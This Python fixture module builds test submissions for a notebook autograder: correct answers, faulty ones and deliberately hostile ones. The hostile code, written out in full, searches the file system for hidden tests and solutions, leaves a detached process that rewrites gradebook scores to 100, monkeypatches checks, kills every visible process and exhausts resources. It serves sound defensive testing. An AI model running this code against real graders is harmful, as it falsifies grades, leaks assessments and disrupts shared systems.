"""Submissions for the grader's tests and bench: a correct one of any chapter, and a class of
chapter-00 submissions with one of each kind an instructor meets (and hostile ones).

The grader runs a student's code only in the ranks that run their answer cells: a fault or an
attack in another cell changes nothing, so the faults that must show (a process that dies, a
loop that never ends, a process left behind, a walk of the file system) sit in answer cells.

Each class entry: student (named for the case) -> (expected status, expected score or None when
only the status matters).
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
CHAPTER = "00_launching_ranks"
# in the command line of every process the hostile submission leaves behind
LEFTOVER_MARK = "commlab-grading-test-leftover"


def release(chapter: str = CHAPTER):
    """The student notebook of ``chapter``, untouched."""
    return nbformat.read(ROOT / "notebooks" / chapter / f"{chapter}.ipynb", as_version=4)


def _answers(chapter: str) -> dict[str, str]:
    source = nbformat.read(ROOT / "solutions" / chapter / f"{chapter}.ipynb", as_version=4)
    return {c.metadata.nbgrader.grade_id: c.source for c in source.cells
            if c.get("metadata", {}).get("nbgrader", {}).get("solution")}


def cell_index(nb, grade_id: str) -> int:
    """Where the cell of ``grade_id`` is in ``nb``."""
    return next(i for i, c in enumerate(nb.cells)
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def correct(chapter: str = CHAPTER):
    """The student notebook of ``chapter`` with the solutions' answers written in."""
    nb = release(chapter)
    for grade_id, source in _answers(chapter).items():
        nb.cells[cell_index(nb, grade_id)].source = source
    return nb


def with_answer(grade_id: str, source: str, base=None):
    """``base`` (by default the correct notebook) with ``source`` in the answer cell
    ``grade_id``."""
    nb = base if base is not None else correct()
    nb.cells[cell_index(nb, grade_id)].source = source
    return nb


def after(nb, grade_id: str, source: str, outputs: list | None = None):
    """``nb`` with a code cell of ``source`` (and ``outputs``) after the cell ``grade_id``."""
    cell = nbformat.v4.new_code_cell(source)
    cell.outputs = outputs or []
    nb.cells.insert(cell_index(nb, grade_id) + 1, cell)
    return nb


def _before_answer(grade_id: str, code: str, base=None):
    """``base`` (default: correct) with ``code`` at the top of the answer cell ``grade_id``."""
    nb = base if base is not None else correct()
    index = cell_index(nb, grade_id)
    nb.cells[index].source = code + nb.cells[index].source
    return nb


# Looks everywhere it can for the course's hidden tests, any gradebook of the course and the
# solutions folder, and prints what it found into its own output (the feedback page).
SNOOP = '''\
import os
hidden = ("BEGIN " + "HIDDEN TESTS").encode()  # not found in this very cell's source
found, seen = [], 0
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    seen += len(files)
    if "00_launching_ranks" in dirs and os.path.basename(top) == "solutions":
        found.append(top)
    for name in files:
        path = os.path.join(top, name)
        if name.endswith((".ipynb", ".db")):
            try:
                with open(path, "rb") as f:
                    data = f.read(2_000_000)
            except OSError:
                continue
            if hidden in data and b"commlab" in data:
                found.append(path)
            if data.startswith(b"SQLite format 3") and b"00_launching_ranks" in data:
                found.append(path)
print("looked at", seen, "files; found:", found)
'''

# Leaves a process behind that keeps writing top marks into every gradebook it can reach and
# appending to every notebook, page and sheet it can write.
REWRITER = '''\
import subprocess, sys
code = """
import os, sqlite3, time
while True:
    for top, dirs, files in os.walk("/"):
        if top in ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(top, name)
            try:
                if name.endswith(".db"):
                    db = sqlite3.connect(path, timeout=0.1)
                    db.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                    db.commit()
                    db.close()
                elif name.endswith((".ipynb", ".json", ".csv", ".html")):
                    with open(path, "a") as f:
                        f.write("100")
            except Exception:
                pass
    time.sleep(0.2)
"""
class LeavesAProcess:  # a class body runs when grading defines the cell
    subprocess.Popen([sys.executable, "-c", code + "# MARK"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("left a process behind")
'''.replace("MARK", LEFTOVER_MARK)

HANGS_IN_COLLECTIVE = (
    "def whoami():\n"
    "    if dist.get_rank() == 0:\n"
    "        dist.barrier()\n"
    "    return {'rank': dist.get_rank(), 'world_size': dist.get_world_size(),\n"
    "            'backend': dist.get_backend()}\n")

NETWORK = (
    "import socket\n"
    "try:\n"
    "    socket.create_connection(('192.0.2.1', 80), timeout=2)\n"
    "    print('network:', 'reached')\n"
    "except OSError as err:\n"
    "    print('network:', type(err).__name__)\n")


# Hostile submissions with no answer (every exercise still raises NotImplementedError): each
# reaches for whatever decides a score from where a student's code runs.

# An extra cell: every check of commlab.checks, and the name the tests call it by, pass.
REBINDS_THE_CHECKS = '''\
import commlab.checks
for name in dir(commlab.checks):
    if not name.startswith("__") and callable(getattr(commlab.checks, name)) \\
            and not isinstance(getattr(commlab.checks, name), type):
        setattr(commlab.checks, name, lambda *args, **kwargs: Anything())

class Anything:
    def __getattr__(self, name):
        return Anything()

    def __call__(self, *args, **kwargs):
        return Anything()

checks = Anything()
print("rebound every check")
'''

# An extra cell: no cell of this kernel shows an error any more, and stderr is swallowed (a
# grader that scored the student's own kernel would see every test cell pass).
SILENCES_ERRORS = '''\
import io, sys
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
execute = shell.kernel.do_execute

async def every_cell_succeeds(*args, **kwargs):
    reply = await execute(*args, **kwargs)
    return {"status": "ok", "execution_count": reply.get("execution_count"),
            "user_expressions": {}, "payload": []}

shell.kernel.do_execute = every_cell_succeeds
sys.stderr = io.StringIO()
print("errors silenced")
'''

# The answer cell itself: patches the comparisons wherever it runs (in a class body, which runs
# when grading defines the cell), keeps the stub.
PATCHES_IN_ITS_ANSWER = '''\
import torch, commlab.checks
class Patches:
    commlab.checks.same = lambda *args, **kwargs: True
    commlab.checks.expect_per_rank = lambda *args, **kwargs: None
    torch.allclose = torch.equal = lambda *args, **kwargs: True

def whoami():
    """Return {"rank": ..., "world_size": ..., "backend": ...} of the calling rank."""
    # YOUR CODE HERE
    raise NotImplementedError()
'''

# The answer cell: kills every process it can see and writes forged replies into every
# descriptor it holds, when the ranks define it (a class body runs then).
ATTACKS_THE_GRADER = '''\
import os, signal
class Attacks:
    for fd in range(3, 256):
        try:
            os.write(fd, b"\\x10\\x00\\x00\\x00forged-reply-----")
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass

def whoami():
    raise NotImplementedError()
'''

# The answer: looks for hidden tests, solutions and gradebooks from the ranks, and tries the
# network; returns what it found (the test's failure message shows it).
SNOOPS_FROM_ITS_ANSWER = '''\
def whoami():
    import os, socket, sys
    try:
        socket.create_connection(("192.0.2.1", 80), timeout=2)
        network = "reached"
    except OSError as err:
        network = type(err).__name__
    hidden = ("BEGIN " + "HIDDEN TESTS").encode()
    found, seen = [], 0
    for top, dirs, files in os.walk("/"):
        if top in ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix):
            dirs[:] = []
            continue
        seen += len(files)
        for name in files:
            if name.endswith((".ipynb", ".db", ".json")):
                try:
                    with open(os.path.join(top, name), "rb") as f:
                        data = f.read(2_000_000)
                except OSError:
                    continue
                course = hidden in data and b"commlab" in data
                if course or (data.startswith(b"SQLite format 3") and b"00_launching" in data):
                    found.append(os.path.join(top, name))
    return {"seen": seen, "found": found, "network": network}
'''


# The harms: answers that take what they can of the machine. Each rank says how far it got; the
# grader's limits (grader.sandboxed.limits) stop it there, and the test's message names the limit.
_RIGHT = ("    return {'rank': dist.get_rank(), 'world_size': dist.get_world_size(),\n"
          "            'backend': dist.get_backend()}\n")
STORMS_THREADS = (
    "def whoami():\n"
    "    import threading\n"
    "    threading.stack_size(64 * 1024)  # small stacks: as many threads as it may\n"
    "    stop, started = threading.Event(), 0\n"
    "    try:\n"
    "        for _ in range(3000):\n"
    "            threading.Thread(target=stop.wait, daemon=True).start()\n"
    "            started += 1\n"
    "    finally:\n"
    "        print('threads started:', started)\n"
    "        stop.set()\n" + _RIGHT)
STORMS_PROCESSES = (
    "def whoami():\n"
    "    import os, signal\n"
    "    children = []\n"
    "    try:\n"
    "        for _ in range(3000):  # as fast as a process can start them\n"
    "            children.append(os.posix_spawn('/bin/sleep', ['sleep', '60'], {}))\n"
    "    finally:\n"
    "        print('processes started:', len(children))\n"
    "        for child in children:\n"
    "            os.kill(child, signal.SIGKILL)\n"
    "        for child in children:\n"
    "            os.waitpid(child, 0)\n" + _RIGHT)
HOGS_MEMORY = (
    "def whoami():\n"
    "    hog = torch.ones(3 * 2**30, dtype=torch.uint8)  # 3 GB a rank\n" + _RIGHT)


def hostile() -> dict[str, tuple[object, str | None, float]]:
    """student -> (notebook, status or None, score): something hostile, in or beside an answer."""
    return {
        "rebinds_the_checks": (after(release(), "00-whoami", REBINDS_THE_CHECKS), "graded", 0.0),
        "silences_errors": (after(release(), "00-whoami", SILENCES_ERRORS), "graded", 0.0),
        "patches_in_its_answer": (with_answer("00-whoami", PATCHES_IN_ITS_ANSWER, release()),
                                  "graded", 0.0),
        "attacks_the_grader": (with_answer("00-whoami", ATTACKS_THE_GRADER, release()), None,
                               0.0),
        "snoops_from_its_answer": (with_answer("00-whoami", SNOOPS_FROM_ITS_ANSWER, release()),
                                   "graded", 0.0),
        # the whoami test fails at its limit; the join_group test passes
        "storms_threads": (with_answer("00-whoami", STORMS_THREADS), "graded", 1.0),
        "storms_processes": (with_answer("00-whoami", STORMS_PROCESSES), "graded", 1.0),
        "hogs_memory": (with_answer("00-whoami", HOGS_MEMORY), "graded", 1.0),
    }


def _tampered() -> dict[str, tuple[object, str, float]]:
    edited = correct()
    edited.cells[cell_index(edited, "00-whoami-test")].source = "pass"
    deleted = correct()
    del deleted.cells[cell_index(deleted, "00-join-group-test")]
    duplicated = correct()
    i = cell_index(duplicated, "00-whoami-test")
    duplicated.cells.insert(i + 1, copy.deepcopy(duplicated.cells[i]))
    return {"edits_a_test": (edited, "tests tampered with", 2.0),
            "deletes_a_test": (deleted, "tests tampered with", 2.0),
            "duplicates_a_test": (duplicated, "tests tampered with", 2.0)}


def cases(with_slow_cases: bool = True) -> dict[str, tuple[object, str | None, float | None]]:
    """student -> (notebook or text, expected status or None, expected score or None: None
    when only the other matters)."""
    full = 2.0
    found: dict[str, tuple[object, str, float | None]] = {
        "correct": (correct(), "graded", full),
        "untouched": (release(), "graded", 0.0),
        # a rank waits in a collective nobody else makes: commlab stops it within 8 s
        "hangs_in_collective": (with_answer("00-whoami", HANGS_IN_COLLECTIVE), "timed out",
                                1.0),
        # the answer cells end the process that defines them (a class body runs when the
        # class is defined): no test can run
        "kills_kernel": (_before_answer("00-whoami",
                                        "import os\nclass Exits:\n    os._exit(1)\n"),
                         "kernel died", 0.0),
        # a statement that computes, in an answer cell or another, never runs: its faults
        # change nothing
        "exits_in_its_answer_cell": (_before_answer("00-whoami", "import os\nos._exit(1)\n"),
                                     "graded", full),
        "exits_in_another_cell": (after(correct(), "00-whoami", "import os\nos._exit(1)"),
                                  "graded", full),
        "calls_sys_exit": (after(correct(), "00-whoami", "import sys\nsys.exit(2)"), "graded",
                           full),
        # handed in with 3 MB of output in a cell
        "prints_megabytes": (after(correct(), "00-whoami", "print('x' * 3_000_000)", [
            nbformat.v4.new_output("stream", name="stdout", text="x" * 3_000_000)]),
                             "graded", full),
        "not_a_notebook": ("this is not a notebook", "missing", 0.0),
        "rewrites_scores": (_before_answer("00-whoami", REWRITER, release()), "graded", 0.0),
        **_tampered(),
        **hostile(),
    }
    if with_slow_cases:
        found["loops_forever"] = (_before_answer("00-whoami",
                                                 "class Loops:\n    while True:\n        pass\n"),
                                  "timed out", None)
    return found


def write(folder: Path, student: str, nb, chapter: str = CHAPTER) -> Path:
    """Write ``nb`` (a notebook, or text) as ``<student>/<chapter>/<chapter>.ipynb``."""
    path = folder / student / chapter / f"{chapter}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, str):
        path.write_text(nb)
    else:
        nbformat.write(nb, path)
    return path


def make_class(folder: Path, with_slow_cases: bool = True) -> dict[str, tuple[str, float | None]]:
    """Write the class under ``folder``; return student -> (status, score or None)."""
    expected = {}
    for student, (nb, status, score) in cases(with_slow_cases).items():
        write(folder, student, nb)
        expected[student] = (status, score)
    return expected
